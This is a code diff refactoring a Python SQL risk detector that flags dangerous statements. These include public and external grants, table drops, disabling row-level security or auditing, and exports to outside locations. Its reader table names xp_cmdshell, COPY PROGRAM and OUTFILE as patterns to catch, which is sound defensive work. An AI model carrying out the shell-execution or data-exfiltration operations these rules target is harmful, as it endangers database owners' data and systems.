+        rest = _OUTFILE_TAIL.sub(" ", clean)
+        tree = self._parse(rest)
+        if tree is not None:
+            self._tree(tree, rest, result)
+        return True
+
     def _raw_grant(self, clean: str, result: SqlResult) -> bool:
-        # Split with plain string search: GRANT <what> [ON <object>] TO <grantees> [WITH … OPTION]
-        low = clean.lower()
-        to_at = low.rfind(" to ")
-        if not low.startswith("grant ") or to_at < 6:
+        parts = _grant_parts(clean)
+        if parts is None:
             return False
-        head = clean[6:to_at].strip()
-        to = _GRANT_OPTION.sub("", clean[to_at + 4 : to_at + 1004]).strip()
-        on_at = head.lower().find(" on ")
-        what, on = (head[:on_at], head[on_at + 4 :].strip()) if on_at >= 0 else (head, "")
-        if not what or not to:
-            return False
-        share = _TO_SHARE.match(to)
+        what, on, to = parts
         schema_wide = _ALL_TABLES.search(on) or _FUTURE.search(on)
         target = on or what
-        if on:
+        if on and not schema_wide and re.match(r"^(?:table\s+)?[\w.\"`]+$", on, re.I):
             on_obj = re.sub(
                 r"^(?:table|view|schema|database|all\s+tables\s+in\s+schema|"
                 r"future\s+tables\s+in\s+schema)\s+",
@@ -1061,15 +716,25 @@ class SqlDetector:
                 on,
                 flags=re.I,
             )
-            if not schema_wide and re.match(r"^(?:table\s+)?[\w.\"`]+$", on, re.I):
-                result.use(_unquote(on_obj))
-        flagged = False
+            result.use(_unquote(on_obj))
+        findings = self._grantee_findings(to, target)
+        if schema_wide:
+            result.schemas.append(_unquote(schema_wide.group(2)))
+            findings.append(("sql.grant_schema_wide", schema_wide.group(2)))
+        if (not on and _ADMIN_ROLES.match(what)) or (on and _ADMIN_PRIV.search(what)):
+            findings.append(("sql.grant_admin", _unquote(to)))
+        for rule, where in findings or [("sql.grant", target)]:
+            self._add(result, rule, where, clean)
+        return True
+
+    def _grantee_findings(self, to: str, target: str) -> list[tuple[str, str]]:
+        """(rule, target) for a grant to a share, to everyone, or to people outside."""
+        out: list[tuple[str, str]] = []
+        share = _TO_SHARE.match(to)
         if share:
-            self._add(result, "sql.grant_to_share", f"{target} (share {share.group(1)})", clean)
-            flagged = True
+            out.append(("sql.grant_to_share", f"{target} (share {share.group(1)})"))
         if _PUBLIC.search(to) or _EVERYONE.search(to):
-            self._add(result, "sql.grant_public", target, clean)
-            flagged = True
+            out.append(("sql.grant_public", target))
         outsiders = [
             m.group(0)
             for m in _EMAIL.finditer(to)
@@ -1079,79 +744,90 @@ class SqlDetector:
             )
         ]
         if outsiders:
-            self._add(result, "sql.grant_external", f"{target} ({', '.join(outsiders)})", clean)
-            flagged = True
-        if schema_wide:
-            result.schemas.append(_unquote(schema_wide.group(2)))
-            self._add(result, "sql.grant_schema_wide", schema_wide.group(2), clean)
-            flagged = True
-        if (not on and _ADMIN_ROLES.match(what)) or (on and _ADMIN_PRIV.search(what)):
-            self._add(result, "sql.grant_admin", _unquote(to), clean)
-            flagged = True
-        if not flagged:
-            self._add(result, "sql.grant", target, clean)
-        return True
+            out.append(("sql.grant_external", f"{target} ({', '.join(outsiders)})"))
+        return out
 
     # -- statements with a syntax tree ----------------------------------------------------------
 
     def _tree(self, tree: exp.Expression, clean: str, result: SqlResult) -> None:
-        if isinstance(tree, exp.Drop):
-            kind = str(tree.args.get("kind") or "TABLE").upper()
-            names = []
-            for t in tree.find_all(exp.Table):
-                name = _table_name(t) or (t.db.lower() if t.db else None)
-                if name:
-                    names.append(name)
-            self._drop(kind, names, clean, result)
-            return
-        if isinstance(tree, exp.TruncateTable):
-            names = self._collect_tables(tree, result, whole_rows=True)
-            self._add(result, "sql.truncate", ", ".join(names) or "a table", clean)
-            return
-        if isinstance(tree, exp.Alter):
-            table = tree.this
-            name = _table_name(table) if isinstance(table, exp.Table) else None
-            if name:
-                result.use(name)
-            if any(isinstance(a, exp.Drop) for a in tree.args.get("actions") or []):
-                if name:
-                    result.use(name).whole_rows = True
-                self._add(result, "sql.alter_drop", name or "a table", clean)
-            return
-        if isinstance(tree, exp.Delete | exp.Update):
-            self._collect(tree, result)
-            self._write(tree, clean, result)
-            return
-        if self._replaces(tree):
-            names = self._collect_tables(tree.this, result, whole_rows=True)
-            self._add(result, "sql.replace_table", ", ".join(names) or "a table", clean)
-            self._collect(tree, result)
-            return
-        if isinstance(tree, exp.Merge):
-            self._collect(tree, result)
-            self._merge(tree, clean, result)
-            return
-        if isinstance(tree, exp.Grant | exp.Revoke):
-            self._grant_tree(tree, clean, result)
-            return
-        if isinstance(tree, exp.Copy):
-            self._copy(tree, clean, result)
-            return
-        if isinstance(tree, exp.Export):
-            opts = _EXPORT_URI.search(clean)
-            dest = (opts.group(1) or opts.group(2)) if opts else "an external location"
-            result.locations.append(dest)
-            result.exports.append((dest, clean))
-            self._collect(tree, result)
-            return
-        if isinstance(tree, exp.Set) and _ROW_SECURITY_OFF.match(clean):
-            self._add(result, "sql.disable_rls", "this session", clean)
-            return
+        """A parsed statement: the first reader in `_TREE_READERS` for its kind that takes it,
+        else the tables and columns it touches."""
+        for kinds, read in _TREE_READERS:
+            if isinstance(tree, kinds) and read(self, tree, clean, result):
+                return
         self._collect(tree, result)
         # A CTE whose body deletes or updates (`WITH gone AS (DELETE … RETURNING *) SELECT …`)
         for node in tree.find_all(exp.Delete, exp.Update):
             if isinstance(node, exp.Delete | exp.Update):
                 self._write(node, clean, result)
+
+    # Each tree reader returns True when it has judged the statement.
+
+    def _tree_drop(self, tree: exp.Expression, clean: str, result: SqlResult) -> bool:
+        kind = str(tree.args.get("kind") or "TABLE").upper()
+        names = []
+        for t in tree.find_all(exp.Table):
+            name = _table_name(t) or (t.db.lower() if t.db else None)
+            if name:
+                names.append(name)
+        self._drop(kind, names, clean, result)
+        return True
+
+    def _tree_truncate(self, tree: exp.Expression, clean: str, result: SqlResult) -> bool:
+        names = self._collect_tables(tree, result, whole_rows=True)
+        self._add(result, "sql.truncate", ", ".join(names) or "a table", clean)
+        return True
+
+    def _tree_alter(self, tree: exp.Expression, clean: str, result: SqlResult) -> bool:
+        table = tree.this
+        name = _table_name(table) if isinstance(table, exp.Table) else None
+        if name:
+            result.use(name)
+        if any(isinstance(a, exp.Drop) for a in tree.args.get("actions") or []):
+            if name:
+                result.use(name).whole_rows = True
+            self._add(result, "sql.alter_drop", name or "a table", clean)
+        return True
+
+    def _tree_write(self, tree: exp.Expression, clean: str, result: SqlResult) -> bool:
+        self._collect(tree, result)
+        self._write(cast(exp.Delete | exp.Update, tree), clean, result)
+        return True
+
+    def _tree_replace(self, tree: exp.Expression, clean: str, result: SqlResult) -> bool:
+        if not self._replaces(tree):
+            return False
+        names = self._collect_tables(tree.this, result, whole_rows=True)
+        self._add(result, "sql.replace_table", ", ".join(names) or "a table", clean)
+        self._collect(tree, result)
+        return True
+
+    def _tree_merge(self, tree: exp.Expression, clean: str, result: SqlResult) -> bool:
+        self._collect(tree, result)
+        self._merge(cast(exp.Merge, tree), clean, result)
+        return True
+
+    def _tree_grant(self, tree: exp.Expression, clean: str, result: SqlResult) -> bool:
+        self._grant_tree(tree, clean, result)
+        return True
+
+    def _tree_copy(self, tree: exp.Expression, clean: str, result: SqlResult) -> bool:
+        self._copy(cast(exp.Copy, tree), clean, result)
+        return True
+
+    def _tree_export(self, tree: exp.Expression, clean: str, result: SqlResult) -> bool:
+        opts = _EXPORT_URI.search(clean)
+        dest = (opts.group(1) or opts.group(2)) if opts else "an external location"
+        result.locations.append(dest)
+        result.exports.append((dest, clean))
+        self._collect(tree, result)
+        return True
+
+    def _tree_set(self, tree: exp.Expression, clean: str, result: SqlResult) -> bool:
+        if not _ROW_SECURITY_OFF.match(clean):
+            return False
+        self._add(result, "sql.disable_rls", "this session", clean)
+        return True
 
     @staticmethod
     def _replaces(tree: exp.Expression) -> bool:
@@ -1314,80 +990,51 @@ class SqlDetector:
 
     def _collect(self, tree: exp.Expression, result: SqlResult) -> None:
         """Every table touched, and each column mapped to the table(s) it can come from."""
-        ctes = {c.alias_or_name.lower() for c in tree.find_all(exp.CTE)}
-        scopes: dict[int, dict[str, str | None]] = {}
-
-        def real(t: exp.Table) -> str | None:
-            name = _table_name(t)
-            if not name or (not t.db and name in ctes):
-                return None
-            return name
-
+        sources = _Sources({c.alias_or_name.lower() for c in tree.find_all(exp.CTE)})
         for t in tree.find_all(exp.Table):
-            name = real(t)
+            name = sources.real(t)
             if name:
                 result.use(name)
-
-        def sources(scope: exp.Expression) -> dict[str, str | None]:
-            key = id(scope)
-            if key in scopes:
-                return scopes[key]
-            found: dict[str, str | None] = {}
-            nodes: list[exp.Expression] = []
-            if isinstance(scope, exp.Update | exp.Delete) and isinstance(scope.this, exp.Table):
-                nodes.append(scope.this)
-            frm = scope.args.get("from_") or scope.args.get("from")
-            if isinstance(frm, exp.From):
-                nodes.append(frm.this)
-            using = scope.args.get("using")
-            if isinstance(using, list):
-                nodes.extend(using)
-            nodes.extend(j.this for j in scope.args.get("joins") or [])
-            for node in nodes:
-                if isinstance(node, exp.Table):
-                    name = real(node)
-                    found[node.alias_or_name.lower()] = name
-                    if name:
-                        found.setdefault(name, name)
-                        found.setdefault(name.rsplit(".", 1)[-1], name)
-                elif isinstance(node, exp.Expression):
-                    found[node.alias_or_name.lower()] = None
-            scopes[key] = found
-            return found
-
         for sel in tree.find_all(exp.Select):
             for proj in sel.expressions:
                 if isinstance(proj, exp.Star):
-                    for name in set(sources(sel).values()):
+                    for name in set(sources.of(sel).values()):
                         if name:
                             use = result.use(name)
                             use.whole_rows = use.star = True
         for col in tree.find_all(exp.Column):
             scope = col.find_ancestor(exp.Select, exp.Update, exp.Delete)
-            if scope is None:
-                continue
-            srcs = sources(scope)
-            qualifier = col.table.lower()
-            if qualifier:
-                owner = srcs.get(qualifier)
-                tables = [owner] if owner else []
-            else:
-                tables = sorted({v for v in srcs.values() if v})
-            if not tables:
-                continue
-            projected = self._is_projection(col, scope) and not col.find_ancestor(*_SUMMARIES)
-            if isinstance(col.this, exp.Star):
-                for name in tables:
-                    use = result.use(name)
-                    use.whole_rows = True
-                    use.star = use.star or projected
-                continue
-            column = col.name.lower()
+            if scope is not None:
+                self._collect_column(col, scope, sources.of(scope), result)
+
+    def _collect_column(
+        self,
+        col: exp.Column,
+        scope: exp.Expression,
+        srcs: dict[str, str | None],
+        result: SqlResult,
+    ) -> None:
+        qualifier = col.table.lower()
+        if qualifier:
+            owner = srcs.get(qualifier)
+            tables = [owner] if owner else []
+        else:
+            tables = sorted({v for v in srcs.values() if v})
+        if not tables:
+            return
+        projected = self._is_projection(col, scope) and not col.find_ancestor(*_SUMMARIES)
+        if isinstance(col.this, exp.Star):
             for name in tables:
                 use = result.use(name)
-                use.columns.add(column)
-                if projected:
-                    use.read.add(column)
+                use.whole_rows = True
+                use.star = use.star or projected
+            return
+        column = col.name.lower()
+        for name in tables:
+            use = result.use(name)
+            use.columns.add(column)
+            if projected:
+                use.read.add(column)
 
     @staticmethod
     def _is_projection(node: exp.Expression, scope: exp.Expression) -> bool:
@@ -1449,9 +1096,62 @@ class SqlDetector:
         )
 
 
+_TreeReader = Callable[[SqlDetector, exp.Expression, str, SqlResult], bool]
+_TREE_READERS: tuple[tuple[type | types.UnionType, _TreeReader], ...] = (
+    (exp.Drop, SqlDetector._tree_drop),
+    (exp.TruncateTable, SqlDetector._tree_truncate),
+    (exp.Alter, SqlDetector._tree_alter),
+    (exp.Delete | exp.Update, SqlDetector._tree_write),
+    (exp.Insert | exp.Create, SqlDetector._tree_replace),
+    (exp.Merge, SqlDetector._tree_merge),
+    (exp.Grant | exp.Revoke, SqlDetector._tree_grant),
+    (exp.Copy, SqlDetector._tree_copy),
+    (exp.Export, SqlDetector._tree_export),
+    (exp.Set, SqlDetector._tree_set),
+)
+"""Statement kind → its reader, tried in order."""
+
+
+_RawReader = Callable[[SqlDetector, str, SqlResult, bool], bool | None]
+
+
+def _by_head(*rows: tuple[tuple[str, ...], _RawReader]) -> dict[str, tuple[_RawReader, ...]]:
+    """First word → its readers, in the order of `rows`."""
+    out: dict[str, tuple[_RawReader, ...]] = {}
+    for heads, read in rows:
+        for head in heads:
+            out[head] = (*out.get(head, ()), read)
+    return out
+
+
+_RAW_READERS = _by_head(
+    (
+        ("exec", "execute", "sp_configure", "xp_cmdshell", "master..xp_cmdshell"),
+        SqlDetector._raw_xp_cmdshell,
+    ),
+    (("alter", "vacuum", "set"), SqlDetector._raw_history_off),
+    (("alter", "drop"), SqlDetector._raw_share_accounts),
+    (("alter", "drop"), SqlDetector._raw_masking_off),
+    (("get",), SqlDetector._raw_get_stage),
+    (("alter", "set", "drop", "noaudit", "uninstall"), SqlDetector._raw_audit_off),
+    (("grant",), SqlDetector._raw_grant_statement),
+    (("revoke",), SqlDetector._raw_revoke),
+    (("create", "alter", "drop"), SqlDetector._raw_rls_off),
+    (("create", "alter", "drop"), SqlDetector._raw_drop_policy),
+    (("create", "alter", "drop"), SqlDetector._raw_role),
+    (("create", "alter", "drop"), SqlDetector._raw_ddl_rest),
+    (("set",), SqlDetector._raw_row_security_off),
+    (("unload",), SqlDetector._raw_unload),
+    (("copy",), SqlDetector._raw_copy_program),
+    (("select", "with", "("), SqlDetector._raw_outfile),
+)
+"""Statements sqlglot cannot read (or reads too loosely), by their first word: each
+reader in turn until one says True (handled) or False (stop)."""
+
+
 def verify_sql_rules(rules: Sequence[SqlRule] = SQL_RULES) -> None:
     """Run every SQL rule's own examples; a rule that fails them stops start-up."""
-    detector = SqlDetector(_EXAMPLE_PII.get, company_domains=("example.com",))
+    detector = SqlDetector(EXAMPLE_PII.get, company_domains=("example.com",))
     for rule in rules:
         for example in rule.match:
             if rule.id not in {f.rule for f in detector.assess(example).findings}:
